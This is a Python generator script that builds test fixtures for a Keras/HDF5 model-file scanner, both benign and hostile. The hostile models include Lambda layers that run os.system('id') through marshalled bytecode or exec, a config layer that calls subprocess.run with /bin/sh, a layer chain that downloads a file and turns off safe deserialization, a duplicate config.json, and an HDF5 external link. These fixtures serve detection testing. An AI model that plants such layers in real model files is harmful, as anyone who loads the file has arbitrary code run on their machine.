#!/usr/bin/python3
"""Keras fixtures for laocoon's Keras/HDF5 readers (tests/fixtures/keras/).

Keras and TensorFlow are not installed here: the configs are written by hand
in the formats Keras 2 (model_config JSON of .h5 files) and Keras 3
(config.json of .keras zips: module/class_name/config/registered_name)
produce.  HDF5 files are written with h5py (Debian's python3-h5py).
Lambda bytecode is real marshal data of lambdas that are compiled, never
called: compile() does not run the code.

Run from the repository root:  /usr/bin/python3 tests/gen/gen_keras.py
tests/fixtures/keras/libhdf5_crash.h5 is not generated: it is a fuzzer
finding (fuzz/fuzz_hdf5.c, from these seeds) on which libhdf5 1.10.8 reads
out of bounds in H5HG_read; kept as a regression input for the isolation
of libhdf5 in a child process.

Also seeds fuzz/corpus/hdf5/ with small files and fuzz/corpus/keras/ with
the config.json members.
"""
import json
import marshal
import os
import base64
import zipfile

import h5py
import numpy as np

OUT = "tests/fixtures/keras"
FUZZ = "fuzz/corpus/hdf5"
FUZZ_KERAS = "fuzz/corpus/keras"
DATE = (2024, 1, 1, 0, 0, 0)


def lambda_code(src):
    """Base64 marshal of the code object of the lambda in src (compiled, not run)."""
    module = compile(src, "<fixture>", "eval")
    code = [c for c in module.co_consts if hasattr(c, "co_code")][0]
    return base64.b64encode(marshal.dumps(code)).decode() + "\n"


def dtype_policy():
    return {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"},
            "registered_name": None}


def k3(module, cls, config, **kw):
    o = {"module": module, "class_name": cls, "config": config, "registered_name": kw.pop("registered_name", None)}
    o.update(kw)
    return o


def dense(name, units, activation="relu", **kw):
    return k3("keras.layers", "Dense", {
        "name": name, "trainable": True, "dtype": dtype_policy(), "units": units, "activation": activation,
        "use_bias": True,
        "kernel_initializer": k3("keras.initializers", "GlorotUniform", {"seed": None}),
        "bias_initializer": k3("keras.initializers", "Zeros", {}),
        "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None, "bias_constraint": None,
    }, build_config={"input_shape": [None, 4]}, **kw)


def input_layer(name, shape):
    return k3("keras.layers", "InputLayer", {"batch_shape": [None] + shape, "dtype": "float32", "sparse": False,
                                             "name": name})


def compile_config():
    return {"optimizer": k3("keras.optimizers", "Adam", {"name": "adam", "learning_rate": 0.001}),
            "loss": "mse", "loss_weights": None, "metrics": ["mae"], "weighted_metrics": None,
            "run_eagerly": False, "steps_per_execution": 1, "jit_compile": False}


def sequential(name, layers):
    return k3("keras", "Sequential", {"name": name, "trainable": True, "dtype": dtype_policy(), "layers": layers},
              build_config={"input_shape": [None, 4]}, compile_config=compile_config())


def kt(layer, node=0, tensor=0, shape=(None, 4)):
    return {"class_name": "__keras_tensor__",
            "config": {"shape": list(shape), "dtype": "float32", "keras_history": [layer, node, tensor]}}


def call(*tensors):
    args = [tensors[0]] if len(tensors) == 1 else [list(tensors)]
    return [{"args": args, "kwargs": {}}]


def weights_h5(path_or_file, layers=("dense", "dense_1")):
    with h5py.File(path_or_file, "w", track_order=True) as f:
        for i, l in enumerate(layers):
            g = f.create_group(f"layers/{l}/vars")
            g.create_dataset("0", data=np.zeros((4, 4), dtype=np.float32))
            g.create_dataset("1", data=np.zeros((4,), dtype=np.float32))
        f.create_group("optimizer/vars").create_dataset("0", data=np.zeros((), dtype=np.int64))


def write_keras(name, config, weights=True, extra=()):
    path = os.path.join(OUT, name)
    tmp = path + ".weights.tmp"
    if weights:
        weights_h5(tmp)
    with zipfile.ZipFile(path, "w") as z:
        def add(n, data, method=zipfile.ZIP_DEFLATED):
            zi = zipfile.ZipInfo(n, DATE)
            zi.compress_type = method
            z.writestr(zi, data)
        add("metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2024-01-01@00:00:00"}))
        add("config.json", json.dumps(config))
        for n, data in extra:
            add(n, data)
        if weights:
            add("model.weights.h5", open(tmp, "rb").read(), zipfile.ZIP_STORED)
    if weights:
        os.remove(tmp)


def write_h5(name, model_config=None, training_config=None, userblock=0, fixed=False, weights=True):
    path = os.path.join(OUT, name)
    kw = {"userblock_size": userblock} if userblock else {}
    with h5py.File(path, "w", track_order=True, **kw) as f:
        def put(k, v):
            if fixed:
                f.attrs[k] = np.bytes_(v.encode())  # Keras 2: bytes -> fixed-length string
            else:
                f.attrs[k] = v
        put("keras_version", "2.15.0")
        put("backend", "tensorflow")
        if model_config is not None:
            put("model_config", model_config if isinstance(model_config, str) else json.dumps(model_config))
        if training_config is not None:
            put("training_config", json.dumps(training_config))
        if weights:
            mw = f.create_group("model_weights")
            for l in ("dense", "dense_1"):
                g = mw.create_group(f"{l}/{l}")
                g.create_dataset("kernel:0", data=np.zeros((4, 4), dtype=np.float32))
                g.create_dataset("bias:0", data=np.zeros((4,), dtype=np.float32))
    return path


# ---- Keras 2 configs (h5 model_config) --------------------------------------

def k2_dense(name, units, activation="relu"):
    return {"class_name": "Dense", "config": {
        "name": name, "trainable": True, "dtype": "float32", "units": units, "activation": activation,
        "use_bias": True, "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
        "bias_initializer": {"class_name": "Zeros", "config": {}}}}


K2_FUNCTIONAL = {"class_name": "Functional", "config": {
    "name": "model",
    "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32",
                                                "sparse": False, "ragged": False, "name": "input_1"},
         "name": "input_1", "inbound_nodes": []},
        dict(k2_dense("dense", 4), name="dense", inbound_nodes=[[["input_1", 0, 0, {}]]]),
        dict(k2_dense("dense_1", 4), name="dense_1", inbound_nodes=[[["input_1", 0, 0, {}]]]),
        {"class_name": "Add", "config": {"name": "add", "trainable": True, "dtype": "float32"}, "name": "add",
         "inbound_nodes": [[["dense", 0, 0, {}], ["dense_1", 0, 0, {}]]]},
    ],
    "input_layers": [["input_1", 0, 0]],
    "output_layers": [["add", 0, 0]]},
    "keras_version": "2.15.0", "backend": "tensorflow"}

K2_TRAINING = {"loss": "mse", "metrics": [[{"class_name": "MeanMetricWrapper",
                                            "config": {"name": "mae", "dtype": "float32", "fn": "mean_absolute_error"}}]],
               "optimizer_config": {"class_name": "Custom>Adam",
                                    "config": {"name": "Adam", "learning_rate": 0.001, "is_legacy_optimizer": False}}}


def k2_lambda_seq(function, function_type, module="__main__"):
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32",
                                                "name": "input_1"}},
        {"class_name": "Lambda", "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                                            "function": function, "function_type": function_type,
                                            "module": module, "output_shape": None,
                                            "output_shape_type": "raw", "output_shape_module": None,
                                            "arguments": {}}}]}}


def main():
    os.makedirs(OUT, exist_ok=True)
    os.makedirs(FUZZ, exist_ok=True)

    # ---- benign .keras ----
    write_keras("k3_sequential.keras", sequential("sequential", [
        input_layer("input_layer", [4]), dense("dense", 4), dense("dense_1", 2, "softmax")]))

    functional = k3("keras.src.models.functional", "Functional", {
        "name": "functional", "trainable": True,
        "layers": [
            dict(input_layer("in_a", [4]), name="in_a", inbound_nodes=[]),
            dict(input_layer("in_b", [4]), name="in_b", inbound_nodes=[]),
            dict(dense("shared", 4), name="shared", inbound_nodes=call(kt("in_a")) + call(kt("in_b"))),
            dict(k3("keras.layers", "Concatenate", {"name": "concat", "axis": -1, "dtype": dtype_policy()}),
                 name="concat", inbound_nodes=call(kt("shared", 0), kt("shared", 1))),
            dict(dense("head", 1, "sigmoid"), name="head", inbound_nodes=call(kt("concat", shape=(None, 8)))),
        ],
        "input_layers": [["in_a", 0, 0], ["in_b", 0, 0]],
        "output_layers": [["head", 0, 0]]},
        registered_name="Functional", build_config={"input_shape": None}, compile_config=compile_config())
    write_keras("k3_functional.keras", functional)

    inner = sequential("inner", [input_layer("inner_in", [4]), dense("inner_dense", 4)])
    inner.update(name="inner", inbound_nodes=call(kt("outer_in")))
    nested = k3("keras.src.models.functional", "Functional", {
        "name": "outer",
        "layers": [
            dict(input_layer("outer_in", [4]), name="outer_in", inbound_nodes=[]),
            inner,
            dict(k3("keras.layers", "TimeDistributed", {"name": "td", "layer": dense("td_dense", 4)}),
                 name="td", inbound_nodes=call(kt("inner"))),
            dict(k3("keras.layers", "Bidirectional", {"name": "bidi", "merge_mode": "concat",
                                                      "layer": k3("keras.layers", "LSTM", {"name": "lstm", "units": 3})}),
                 name="bidi", inbound_nodes=call(kt("td"))),
        ],
        "input_layers": [["outer_in", 0, 0]], "output_layers": [["bidi", 0, 0]]})
    write_keras("k3_nested.keras", nested)

    # ---- hostile .keras ----
    write_keras("k3_lambda_bytecode.keras", sequential("sequential", [
        input_layer("input_layer", [4]),
        k3("keras.layers", "Lambda", {"name": "lambda", "trainable": True, "dtype": dtype_policy(),
                                      "function": {"class_name": "__lambda__", "config": {
                                          "code": lambda_code("lambda x: __import__('os').system('id')"),
                                          "defaults": None, "closure": None}},
                                      "arguments": {}})]))
    write_keras("k3_lambda_harmless.keras", sequential("sequential", [
        input_layer("input_layer", [4]),
        k3("keras.layers", "Lambda", {"name": "double", "function": {"class_name": "__lambda__", "config": {
            "code": lambda_code("lambda x: x * 2"), "defaults": None, "closure": None}}, "arguments": {}})]))

    poc = k3("keras.src.models.functional", "Functional", {
        "name": "model", "layers": [
            dict(input_layer("input_1", [1]), name="input_1", inbound_nodes=[]),
            {"module": "subprocess", "class_name": "run", "config": {}, "name": "pwn",
             "inbound_nodes": [{"args": ["/bin/sh", "-c", "id"], "kwargs": {}}]}],
        "input_layers": [], "output_layers": []}, registered_name="Functional")
    write_keras("k3_subprocess_layer.keras", poc)

    def lam_ref(name, module, fn, arguments):
        return dict(k3("keras.layers", "Lambda", {"name": name, "function": {
            "module": module, "class_name": "function", "config": fn, "registered_name": "function"},
            "arguments": arguments}), name=name, inbound_nodes=[{"args": [], "kwargs": {"inputs": "x"}}])
    chain = k3("keras.src.models.functional", "Functional", {"name": "functional", "layers": [
        lam_ref("download", "keras.utils", "get_file", {"origin": "https://example.invalid/f",
                                                         "cache_subdir": "/tmp/x"}),
        lam_ref("unlock", "keras.src.backend.common.global_state", "set_global_attribute", {"value": False}),
        lam_ref("reload", "keras.models", "load_model", {"safe_mode": False}),
        lam_ref("reload_safe", "keras.src.saving.saving_api", "load_model", {}),
        lam_ref("unsafe", "keras.config", "enable_unsafe_deserialization", {}),
    ], "input_layers": [], "output_layers": []})
    write_keras("k3_keras_functions.keras", chain)

    write_keras("k3_torch_wrapper.keras", sequential("sequential", [
        input_layer("input_layer", [4]),
        k3("keras.layers", "TorchModuleWrapper", {"name": "torch_module_wrapper", "module": "gASV..."})]))

    write_keras("k3_lookup_url.keras", sequential("sequential", [
        k3("keras.layers", "InputLayer", {"batch_shape": [None, 1], "dtype": "string", "name": "text"}),
        k3("keras.layers", "StringLookup", {"name": "lookup", "vocabulary": "https://example.invalid/vocab.txt",
                                            "num_oov_indices": 1, "mask_token": None})]))

    custom = sequential("sequential", [input_layer("input_layer", [4]),
                                       k3("my_layers", "Scale", {"name": "scale", "factor": 2.0},
                                          registered_name="Custom>Scale"),
                                       {"class_name": "Custom>Gate", "config": {"name": "gate"}}])
    write_keras("k3_custom_object.keras", custom)

    # the top-level model itself a custom class (binaryninja malicious_model.keras shape)
    write_keras("k3_custom_model.keras", k3("my_model", "MyModel", {"name": "my_model", "trainable": True},
                                            registered_name="Custom>MyModel", build_config={"input_shape": [1, 10]}))

    # two config.json members: the first benign, the second (what zipfile reads) hostile
    write_keras("k3_duplicate_config.keras", sequential("sequential", [input_layer("input_layer", [4]), dense("dense", 4)]),
                extra=[("config.json", json.dumps(poc))])

    # ---- .h5 (Keras 2) ----
    write_h5("k2_functional.h5", K2_FUNCTIONAL, K2_TRAINING)
    write_h5("k2_functional_fixed.h5", K2_FUNCTIONAL, K2_TRAINING, fixed=True)
    write_h5("k2_lambda_bytecode.h5", k2_lambda_seq([lambda_code("lambda x: eval('x')"), None, None], "lambda"))
    write_h5("k2_lambda_source.h5", {"class_name": "Sequential", "config": {"name": "m", "layers": [
        {"class_name": "Lambda", "config": {"function": "lambda x: exec(\"import os; os.system('id')\")"}}]}})
    write_h5("k2_lambda_named.h5", k2_lambda_seq("eval", "function", "builtins"))
    write_h5("k2_userblock.h5", K2_FUNCTIONAL, userblock=512)
    write_h5("k2_bad_json.h5", "{\"class_name\": \"Sequential\", \"config\": ")
    write_h5("weights_only.h5", weights=True)
    weights_h5(os.path.join(OUT, "k3_weights.h5"))
    with h5py.File(os.path.join(OUT, "external_link.h5"), "w") as f:
        f.create_group("model_weights")
        f["model_weights/dense"] = h5py.ExternalLink("/etc/other.h5", "/dense")
    # truncated: the superblock names an end of file far beyond the bytes
    data = open(os.path.join(OUT, "k2_functional.h5"), "rb").read()
    open(os.path.join(OUT, "truncated.h5"), "wb").write(data[:1200])

    for n in ("k2_functional.h5", "k2_lambda_bytecode.h5", "k2_userblock.h5", "weights_only.h5", "external_link.h5",
              "truncated.h5", "k2_functional_fixed.h5", "k3_weights.h5", "k2_bad_json.h5", "k2_lambda_source.h5"):
        with open(os.path.join(OUT, n), "rb") as s, open(os.path.join(FUZZ, n), "wb") as d:
            d.write(s.read())
    os.makedirs(FUZZ_KERAS, exist_ok=True)
    for n in sorted(os.listdir(OUT)):
        if n.endswith(".keras"):
            with zipfile.ZipFile(os.path.join(OUT, n)) as z:
                data = z.read("config.json")
            with open(os.path.join(FUZZ_KERAS, n.replace(".keras", ".json")), "wb") as d:
                d.write(data)


if __name__ == "__main__":
    main()
